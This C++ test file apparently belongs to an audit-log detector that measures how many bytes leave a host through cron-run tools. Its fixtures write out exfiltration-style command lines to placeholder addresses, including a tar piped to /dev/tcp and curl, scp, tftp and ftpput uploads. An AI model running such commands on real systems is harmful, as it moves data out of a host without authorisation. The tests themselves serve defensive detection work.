#include <algorithm>
#include <random>
#include <sstream>

#include "host_with_cron.hpp"

/// How bytes move, where no recording forces it: descriptors that come back, processes that come
/// back, order, and what is killed, refused or partial.
namespace auexfil::test {

TEST_CASE("movement: a socket is closed, then a large file written on its number") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 3, kDrop, 9000);
  log.write(tool, 3, 100);
  log.close(tool, 3);
  SECTION("its open is in the log") {
    log.open(tool, 3, "/srv/big");
  }
  SECTION("its open is not") {}
  log.write(tool, 3, 9'000'000);
  log.close(tool, 3);
  log.exit(tool);
  CHECK(sum(one(log)) == "out 100 measured");
}

TEST_CASE("movement: a close-on-exec socket's number is a file after exec") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.socket(tool, 3, 0x80001);
  log.connect(tool, 3, kDrop, 9000);
  log.write(tool, 3, 100);
  log.exec(tool, "/opt/up/packer", {"packer"});
  log.write(tool, 3, 9'000'000);
  log.exit(tool);
  CHECK(sum(one(log)) == "out 100 measured");
}

TEST_CASE("movement: whether exec closed it is not in the log: what goes on is an estimate") {
  CronHost log;
  log.audited = all_but({"socket", "fcntl"});
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 3, kDrop, 9000);
  log.write(tool, 3, 100);
  log.exec(tool, "/opt/up/packer", {"packer"});
  log.write(tool, 3, 5000);
  log.done(tool);
  const auto fact = one(log);
  CHECK(sum(fact) == "out 5100 estimated");
  CHECK(has_note(fact, "inferred"));
}

TEST_CASE("movement: close_range over sockets, and with its flags") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 3, kDrop, 9000);
  log.tcp(tool, 4, kOther, 9000);
  log.write(tool, 3, 100);
  log.write(tool, 4, 100);
  SECTION("closes") {
    log.call(tool, "close_range", 0, {4, 4, 0});
    log.write(tool, 3, 50);
    log.write(tool, 4, 7000);
    log.exit(tool);
  }
  SECTION("marks for exec") {
    log.call(tool, "close_range", 0, {4, 0xffffffffU, 4});
    log.write(tool, 3, 50);
    log.exec(tool, "/opt/up/packer", {"packer"});
    log.write(tool, 4, 7000);
    log.exit(tool);
  }
  const auto facts = tell(log);
  REQUIRE(to(facts, kDrop).size() == 1);
  REQUIRE(to(facts, kOther).size() == 1);
  CHECK(destination(to(facts, kDrop)[0], kDrop)->bytes_out == 150U);
  CHECK(destination(to(facts, kOther)[0], kOther)->bytes_out == 100U);
}

TEST_CASE("movement: splice into a socket: pv") {
  CronHost log;
  const int bash =
      log.tool("/usr/bin/bash", {"bash", "-c", "tar c d | pv > /dev/tcp/203.0.113.9/9"});
  log.tcp(bash, 3, kDrop, 9);
  log.dup2(bash, 3, 1);
  log.close(bash, 3);
  log.fork(bash, 1900);
  log.exec(1900, "/usr/bin/pv", {"pv"});
  for (int i = 0; i < 10; ++i) {
    log.call(1900, "splice", 65536, {0, 0, 1, 0});
  }
  log.write(1900, 2, 80);
  log.exit(1900);
  log.exit(bash);
  const auto fact = one(log);
  CHECK(fact.process.pid == static_cast<std::uint32_t>(bash));
  CHECK(fact.bytes_out == 655'360U);
}

TEST_CASE("movement: a pid used twice, its first end in the log or not") {
  const bool exits = GENERATE(true, false);
  CAPTURE(exits);
  CronHost log;
  if (!exits) {
    log.audited = all_but({"exit_group"});
  }
  const int shell = log.job("two");
  for (const char* address : {kDrop, kOther}) {
    log.fork(shell, 1900);
    log.exec(1900, "/usr/bin/curl", {"curl", "-T", "f", std::string("http://") + address + "/"});
    log.tcp(1900, 3, address, 80);
    log.send(1900, 3, 150);
    log.send(1900, 3, 5000);
    log.exit(1900);
  }
  const auto facts = tell(log);
  REQUIRE(facts.size() == 2);
  for (const auto& fact : facts) {
    CHECK(fact.destinations.size() == 1);
    CHECK(fact.bytes_out == 5150U);
  }
}

TEST_CASE("movement: stamps out of order, serials in order") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.socket(curl, 3);
  const std::int64_t now = log.now();
  log.at(now - 600'000, log.serial());  // a call that blocked for ten minutes
  log.connect(curl, 3, kDrop, 80);
  log.at(now + 10, log.serial());
  log.send(curl, 3, 150);
  log.send(curl, 3, 5000);
  log.done(curl);
  CHECK(sum(one(log)) == "out 5150 measured");
}

/// The lines of a text, in an order in which none is further than `reach` from its place.
std::string displaced(const std::string& text, std::size_t reach, unsigned seed) {
  std::vector<std::pair<std::size_t, std::string>> lines;
  std::istringstream stream(text);
  std::mt19937 random(seed);
  for (std::string line; std::getline(stream, line);) {
    lines.emplace_back(lines.size() + random() % reach, line);
  }
  std::stable_sort(lines.begin(), lines.end(),
                   [](const auto& a, const auto& b) { return a.first < b.first; });
  std::string out;
  for (const auto& [key, line] : lines) {
    out += line + "\n";
  }
  return out;
}

/// Everything that a reader of facts would compare.
std::string print(const std::vector<facts::Fact>& facts) {
  std::string text;
  for (const facts::Fact& fact : facts) {
    text += fmt::format("{:016x} {} {} {} {} {}", fact.id, fact.tool, sum(fact), sign_of(fact),
                        to_word(fact.side), fact.process.pid);
    for (const facts::Destination& d : fact.destinations) {
      text += fmt::format(" [{} {} {}]", d.address ? d.address->to_string() : "-",
                          d.port.value_or(0), sum(d));
    }
    text += "\n";
  }
  return text;
}

CronHost busy_host() {
  CronHost log;
  for (int i = 0; i < 12; ++i) {
    const int scp = log.tool("/usr/bin/scp", {"scp", "f", "203.0.113.9:p"});
    const int ssh = log.ssh_child(scp, CronHost::sftp_argv("203.0.113.9"), kDrop);
    log.upload(ssh, 3, 200'000 + i);
    log.done(ssh);
    log.exit(scp);
    const int tftp = log.tool("/usr/bin/tftp", {"tftp", kOther, "-c", "put", "l", "r"});
    log.udp(tftp, 3);
    log.sendto(tftp, 3, 14, kOther, 69);
    for (int block = 0; block < 20; ++block) {
      log.sendto(tftp, 3, 516, kOther, 42715);
    }
    log.done(tftp);
  }
  return log;
}

TEST_CASE("movement: lines up to 300 places from where they belong change nothing") {
  const CronHost log = busy_host();
  const std::string straight = print(tell(log));
  CHECK(std::count(straight.begin(), straight.end(), '\n') == 24);
  for (unsigned seed = 1; seed <= 3; ++seed) {
    CHECK(print(tell_host(displaced(log.text(), 300, seed)).facts) == straight);
  }
}

TEST_CASE("movement: two hosts' lines dealt into one log") {
  CronHost a("etl-01");
  CronHost b("bk-07");
  const int curl = a.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  const int same = b.tool("/usr/bin/curl", {"curl", "-T", "f", "http://198.51.100.7/"});
  REQUIRE(curl == same);
  a.tcp(curl, 3, kDrop, 80);
  b.tcp(same, 3, kOther, 80);
  for (int i = 0; i < 20; ++i) {
    a.send(curl, 3, 1000);
    b.send(same, 3, 1000 + i);
  }
  a.send(curl, 3, 100);
  b.send(same, 3, 100);
  a.done(curl);
  b.done(same);
  std::istringstream left(a.text());
  std::istringstream right(b.text());
  std::string dealt;
  std::string x;
  std::string y;
  while (std::getline(left, x)) {
    dealt += x + "\n";
    if (std::getline(right, y)) {
      dealt += y + "\n";
    }
  }
  while (std::getline(right, y)) {
    dealt += y + "\n";
  }
  const auto hosts = tell_nodes(dealt);
  REQUIRE(hosts.size() == 2);
  REQUIRE(hosts.at("etl-01").facts.size() == 1);
  REQUIRE(hosts.at("bk-07").facts.size() == 1);
  CHECK(sum(hosts.at("etl-01").facts[0]) == "out 20100 measured");
  CHECK(sum(hosts.at("bk-07").facts[0]) == "out 20290 measured");
  CHECK(destination(hosts.at("bk-07").facts[0], kOther) != nullptr);
}

TEST_CASE("movement: cutting the end off a log never raises a volume or a basis") {
  const CronHost log = busy_host();
  const auto whole = tell(log);
  std::map<std::uint64_t, facts::Fact> by_id;
  for (const auto& fact : whole) {
    by_id[fact.id] = fact;
  }
  for (std::size_t part = 1; part < 24; ++part) {
    const std::size_t end = log.text().rfind('\n', log.text().size() * part / 24) + 1;
    for (const auto& fact : tell_host(log.text().substr(0, end)).facts) {
      REQUIRE(by_id.contains(fact.id));
      const facts::Fact& full = by_id[fact.id];
      CHECK(fact.bytes_out.value_or(0) <= full.bytes_out.value_or(0));
      CHECK(fact.basis >= full.basis);
      if (fact.bytes_out < full.bytes_out) {
        CHECK(fact.basis != transfer::Basis::measured);
      }
    }
  }
}

TEST_CASE("movement: losing records never raises a volume, nor leaves a short one measured") {
  const CronHost log = busy_host();
  std::map<std::uint64_t, std::uint64_t> full;
  for (const auto& fact : tell(log)) {
    full[fact.id] = fact.bytes_out.value_or(0);
  }
  std::mt19937 random(7);
  for (int round = 0; round < 6; ++round) {
    std::istringstream stream(log.text());
    std::string text;
    std::string line;
    std::string lost;
    while (std::getline(stream, line)) {
      const std::string stamp =
          line.substr(line.find("audit("), line.find("):") - line.find("audit("));
      if (random() % 40 == 0) {
        lost = stamp;
      }
      if (stamp != lost) {
        text += line + "\n";
      }
    }
    for (const auto& fact : tell_host(text).facts) {
      const auto known = full.find(fact.id);
      if (known == full.end()) {
        continue;  // its exec was lost: another beginning, another id
      }
      CHECK(fact.bytes_out.value_or(0) <= known->second);
      if (fact.bytes_out.value_or(0) < known->second) {
        CHECK(fact.basis != transfer::Basis::measured);
      }
    }
  }
}

TEST_CASE("movement: active ftp where accept tells no address") {
  CronHost log;
  const int ftp = log.tool("/usr/bin/inetutils-ftp", {"ftp", "-n", "203.0.113.9"});
  log.tcp(ftp, 3, kDrop, 21);
  log.write(ftp, 3, 12);
  log.socket(ftp, 4);
  log.bind(ftp, 4, "192.0.2.1", 0);
  log.listen(ftp, 4);
  log.call(ftp, "accept", 5, {4, 0, 0});
  for (int i = 0; i < 10; ++i) {
    log.write(ftp, 5, 4096);
  }
  log.close(ftp, 5);
  log.done(ftp);
  const auto fact = one(log);
  CHECK(fact.side == transfer::Side::client);
  CHECK(sum(fact) == "out 40972 estimated");
  CHECK(has_note(fact, "inferred"));
}

TEST_CASE("movement: EPSV and EPRT over IPv6") {
  const bool active = GENERATE(false, true);
  CAPTURE(active);
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "ftp://[2001:db8::9]/f"});
  log.tcp(curl, 3, "2001:db8::9", 21, -115);
  log.send(curl, 3, 16);
  if (active) {
    log.socket(curl, 4, 1, 10);
    log.bind(curl, 4, "2001:db8::1", 0);
    log.listen(curl, 4);
    log.accept(curl, 4, 5, "2001:db8::9", 20);
  } else {
    log.tcp(curl, 5, "2001:db8::9", 40000, -115);
  }
  log.send(curl, 5, 65536);
  log.close(curl, 5);
  log.done(curl);
  const auto fact = one(log);
  REQUIRE(fact.destinations.size() == 1);
  CHECK(fact.destinations[0].port == 21);
  CHECK(sum(fact) == "out 65552 measured");
}

TEST_CASE("movement: tftp where sendto is not audited is known by its command line") {
  CronHost log("", only({"execve", "clone", "socket", "connect", "bind", "close"}));
  const int tftp = log.tool("/usr/bin/tftp", {"tftp", "203.0.113.9", "-c", "put", "l", "r"});
  log.udp(tftp, 3);
  log.bind(tftp, 3, "0.0.0.0", 0);
  log.sendto(tftp, 3, 516, kDrop, 42715);
  log.done(tftp);
  log.tcp(CronHost::kCron, 5, "127.0.0.1", 25);
  const auto fact = one(log);
  CHECK(sum(fact) == "out ? unknown");
  REQUIRE(destination(fact, kDrop) != nullptr);
  CHECK(fact.destinations[0].source == transfer::Source::argv);
}

TEST_CASE("movement: refused and failed logins move nothing") {
  CronHost log;
  const int refused = log.tool("/usr/bin/ssh", {"ssh", "203.0.113.9", "cat > f"});
  log.tcp(refused, 3, kDrop, 22, -111);
  log.done(refused);
  const int ssh = log.tool("/usr/bin/ssh", {"ssh", "198.51.100.7", "cat > f"});
  log.tcp(ssh, 3, kOther, 22);
  for (const int bytes : {41, 1560, 1208, 16, 44, 60}) {
    log.write(ssh, 3, bytes);
  }
  log.done(ssh);
  const auto fact = one(log);
  CHECK(sum(fact) == "none 2929 measured");
}

TEST_CASE("movement: a transfer still under way at the end of the log is a lower bound") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.send(curl, 3, 65536);
  const auto fact = one(log);
  CHECK(sum(fact) == "out 65686 at-least");
  CHECK(has_note(fact, "under way"));
}

TEST_CASE("movement: a reboot ends what was open") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.9/"});
  log.tcp(curl, 3, kDrop, 80);
  log.send(curl, 3, 150);
  log.lose(9000);
  log.send(curl, 3, 150);
  log.at(log.now() + 60'000, 1);
  const std::string stamp = log.next_stamp();
  log.record("KERNEL", stamp, "state=initialized audit_enabled=0 res=1");
  log.write(curl, 3, 5'000'000);  // another boot's process with that number
  const auto facts = tell(log);
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].bytes_out == 300U);
  CHECK(facts[0].basis == transfer::Basis::at_least);
}

TEST_CASE("movement: CLONE_FILES shares the table, fork copies it, vfork's child has its own") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.tcp(tool, 3, kDrop, 9000);
  log.write(tool, 3, 10);
  SECTION("a child that shares the table closes for both") {
    log.fork(tool, 1900, 0x400 | 0x11);
    log.close(1900, 3);
    log.write(tool, 3, 5000);
    log.exit(tool);
    CHECK(one(log).bytes_out == 10U);
  }
  SECTION("a forked child closes for itself") {
    log.fork(tool, 1900);
    log.close(1900, 3);
    log.write(1900, 3, 7000);
    log.write(tool, 3, 5000);
    log.done(tool);
    CHECK(one(log).bytes_out == 5010U);
  }
  SECTION("vfork: the child's exec comes before the parent's record") {
    log.inherit(tool, 1900);
    log.exec(1900, "/usr/bin/cat", {"cat"});
    log.write(1900, 3, 300);
    log.call(tool, "vfork", 1900, {});
    log.write(1900, 3, 30);
    log.write(tool, 3, 5000);
    log.exit(1900);
    log.done(tool);
    CHECK(one(log).bytes_out == 5340U);
  }
}

TEST_CASE("movement: 32-bit programs, by socketcall and by direct calls") {
  CronHost log;
  const int put = log.tool("/usr/local/bin/busybox32",
                           {"busybox", "ftpput", "-u", "u", "203.0.113.9", "r", "l"});
  log.arch = kI386;
  log.call(put, "socketcall", 3, {1}, {"SOCKETCALL nargs=3 a0=2 a1=1 a2=6"});
  log.call(put, "socketcall", 0, {3},
           {"SOCKETCALL nargs=3 a0=3 a1=7f a2=10", "SOCKADDR saddr=" + saddr(kDrop, 21)});
  log.write(put, 3, 12);
  log.socket(put, 4);
  log.connect(put, 4, kDrop, 40000);
  log.call(put, "sendfile", 500'000, {4, 5, 0, 500'000});
  log.call(put, "socketcall", 100, {9}, {"SOCKETCALL nargs=4 a0=4 a1=bf a2=64 a3=0"});
  log.close(put, 4);
  log.done(put);
  const auto fact = one(log);
  CHECK(fact.tool == "ftpput");
  CHECK(sum(fact) == "out 500112 measured");
}

TEST_CASE("movement: a connected stream socket tried on several addresses") {
  CronHost log;
  const int tool = log.tool("/opt/up/sender", {"sender"});
  log.socket(tool, 3, 0x801);
  log.connect(tool, 3, kOther, 9000, -115);
  log.connect(tool, 3, kDrop, 9000, -115);
  log.write(tool, 3, 64);
  log.write(tool, 3, 5000);
  log.done(tool);
  const auto fact = one(log);
  REQUIRE(destination(fact, kDrop) != nullptr);
  CHECK(sum(*destination(fact, kDrop)) == "out 5064 measured");
  CHECK(fact.bytes_out == 5064U);
}

TEST_CASE("movement: a datagram of another tool is its own destination each") {
  CronHost log;
  const int tool = log.tool("/opt/feed/feeder", {"feeder"});
  log.udp(tool, 3);
  for (int i = 0; i < 3; ++i) {
    log.sendto(tool, 3, 100, kDrop, 9000);
    log.sendto(tool, 3, 10, kOther, 9000);
  }
  log.sendto(tool, 3, 999, "127.0.0.1", 514);
  log.sendto(tool, 3, 999, "224.0.0.1", 5000);
  log.done(tool);
  const auto fact = one(log);
  CHECK(fact.destinations.size() == 2);
  CHECK(fact.bytes_out == 330U);
}

TEST_CASE("movement: an attended ControlMaster and an unattended client: the job is named") {
  CronHost log;
  const int master = log.tool("/usr/bin/ssh", {"ssh", "-M", "-N", "203.0.113.9"});
  log.tcp(master, 3, kDrop, 22);
  log.write(master, 3, 41);
  log.call(master, "socket", 4, {1, 1, 0});
  log.bind_local(master, 4, "/home/a/.ssh/cm-%r@h.AbCd");
  const int rsync = log.tool("/usr/bin/rsync", {"rsync", "-a", "d/", "203.0.113.9:d"});
  const int ssh = log.run(rsync, 1900, "/usr/bin/ssh",
                          {"ssh", "203.0.113.9", "rsync", "--server", "-logDtpr", ".", "d"});
  log.call(ssh, "socket", 3, {1, 1, 0});
  log.local(ssh, 3, "/home/a/.ssh/cm-%r@h");
  log.write(master, 3, 90'000);
  log.done(ssh);
  log.exit(rsync);
  log.done(master);
  const auto fact = one(log);
  CHECK(fact.bytes_out == 90'041U);
  CHECK(has_note(fact, "rsync -a d/ 203.0.113.9:d"));
}

}  // namespace auexfil::test
